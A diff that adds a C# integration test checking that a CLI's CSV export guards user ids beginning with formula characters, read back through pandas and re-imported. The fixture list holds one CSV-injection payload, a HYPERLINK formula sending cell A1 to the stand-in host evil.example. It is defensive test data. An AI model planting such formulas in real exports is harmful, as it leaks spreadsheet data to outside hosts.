@@ -278,3 +278,115 @@ public sealed class ExportCommandTests(SegmentSiloFixture fixture) : IDisposable
         return profiles;
     }
 }
+
+/// <summary>
+/// <c>profilegrid export</c> against a silo on Azurite (table storage, queue streams): user ids that start with a
+/// formula character (=, +, -, @) are exported to CSV behind the guard's quote, as the memory-storage tests see it
+/// (CsvExportTests), and an import of that export reaches the same users again.
+/// </summary>
+[Collection(AzuriteCollection.Name)]
+public sealed class ExportCommandAzuriteTests(AzuriteFixture azurite) : IDisposable
+{
+    /// <summary>Ids a spreadsheet would run as formulas (OWASP's list), and a plain one.</summary>
+    private static readonly string[] FormulaUsers =
+    [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+31612345678",
+        "-42",
+        "@admin",
+        "=1+2",
+        "plain-17850",
+    ];
+
+    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("profilegrid-export-azurite-");
+
+    public void Dispose() => _folder.Delete(recursive: true);
+
+    [Fact]
+    public async Task User_ids_starting_with_a_formula_character_export_to_csv_guarded_and_import_back_as_sent()
+    {
+        var serviceId = "x" + Guid.NewGuid().ToString("N")[..10];
+        await using var silo = await SiloProcess.StartDurableAsync(azurite.ConnectionString, serviceId, SegmentSiloFixture.Settings);
+        var tenant = "export-az-" + Guid.NewGuid().ToString("N")[..6];
+        var ingest = new IngestEventsRequest { Tenant = tenant };
+        for (var i = 0; i < FormulaUsers.Length; i++)
+        {
+            ingest.Events.Add(new WireEvent
+            {
+                EventId = $"formula-{i}", Type = "product_view", UserId = FormulaUsers[i], Source = "web",
+                OccurredAt = DateTimeOffset.UtcNow.AddHours(-1).ToString("yyyy-MM-ddTHH:mm:ssZ", CultureInfo.InvariantCulture),
+                Product = new ProductAction { ProductId = "p-1", Category = "shoes" },
+            });
+        }
+
+        Assert.Empty((await silo.Client.IngestEventsAsync(ingest)).Rejected);
+        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
+        while ((await silo.Client.GetProfilesAsync(new GetProfilesRequest { Tenant = tenant, UserIds = { FormulaUsers } })).Profiles.Count(p => p.EventsApplied == 1) < FormulaUsers.Length)
+        {
+            Assert.True(DateTime.UtcNow < deadline, "the profiles did not apply their event within 60 s");
+            await Task.Delay(200);
+        }
+
+        // The export pages through the tenant's listing (the feature shards), written behind the profiles.
+        var segments = new SegmentService.SegmentServiceClient(silo.Channel);
+        while ((await segments.ListSegmentsAsync(new ListSegmentsRequest { Tenant = tenant })).UsersWithFeatures < FormulaUsers.Length)
+        {
+            Assert.True(DateTime.UtcNow < deadline, "the feature shards did not list every user within 60 s");
+            await Task.Delay(200);
+        }
+
+        var csv = Path.Combine(_folder.FullName, "profiles.csv");
+        Assert.Equal(0, Cli(["export", "profiles", "--grid", $"http://127.0.0.1:{silo.GrpcPort}", "--tenant", tenant, "--out", csv]));
+
+        // The guard, in the file itself: every id but the plain one is written after a quote, inside quotes.
+        var text = File.ReadAllText(csv);
+        Assert.Equal(FormulaUsers.Length + 1, File.ReadAllLines(csv).Length);
+        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", text, StringComparison.Ordinal);
+        Assert.Contains(",\"'+31612345678\",", text, StringComparison.Ordinal);
+        Assert.Contains(",\"'-42\",", text, StringComparison.Ordinal);
+        Assert.Contains(",\"'@admin\",", text, StringComparison.Ordinal);
+        Assert.Contains(",\"'=1+2\",", text, StringComparison.Ordinal);
+        Assert.Contains(",plain-17850,", text, StringComparison.Ordinal);
+
+        // pandas, as an analyst reads it: each id with the guard's quote, no cell a formula.
+        var read = ReferencePython.Run(
+            """
+            import json, sys
+            import pandas as pd
+            frame = pd.read_csv(sys.argv[1] + "/profiles.csv", dtype=str, keep_default_na=False)
+            print(json.dumps(sorted(frame.user_id)))
+            """,
+            new Dictionary<string, string> { ["profiles.csv"] = text },
+            "python3-pandas");
+        Assert.Equal(
+            FormulaUsers.Select(Recommendations.Import.CsvFormulaGuard.Guard).Order(StringComparer.Ordinal),
+            read.EnumerateArray().Select(u => u.GetString()!).Order(StringComparer.Ordinal));
+        Assert.All(read.EnumerateArray().Select(u => u.GetString()!), u => Assert.False(u[0] is '=' or '+' or '-' or '@', u));
+
+        // The round trip: import-events reads the export without the guard, into another tenant on the same grid, and
+        // every user is there under the id first sent.
+        var mapping = Path.Combine(_folder.FullName, "export-mapping.json");
+        File.WriteAllText(mapping, """{ "format": "csv", "type": "product_view", "source": "web", "fields": { "user": "user_id", "product": "tenant", "time": "last_seen" } }""");
+        var again = tenant + "-again";
+        Assert.Equal(0, Cli(["import-events", "--grid", $"http://127.0.0.1:{silo.GrpcPort}", "--tenant", again, "--file", csv, "--mapping", mapping]));
+        deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
+        GetProfilesResponse back;
+        while ((back = await silo.Client.GetProfilesAsync(new GetProfilesRequest { Tenant = again, UserIds = { FormulaUsers } })).Profiles.Count(p => p.EventsApplied == 1) < FormulaUsers.Length)
+        {
+            Assert.True(DateTime.UtcNow < deadline, $"the imported profiles were not all there within 60 s; missing: {string.Join(", ", back.Missing)}");
+            await Task.Delay(200);
+        }
+
+        Assert.Empty(back.Missing);
+        Assert.Equal(FormulaUsers.Order(StringComparer.Ordinal), back.Profiles.Select(p => p.UserId).Order(StringComparer.Ordinal));
+    }
+
+    private static int Cli(string[] args)
+    {
+        var console = new TestConsole();
+        using var output = new StringWriter();
+        var exit = CliApp.Run(args, console, output, output);
+        Assert.True(exit == 0, console.Output + output);
+        return exit;
+    }
+}
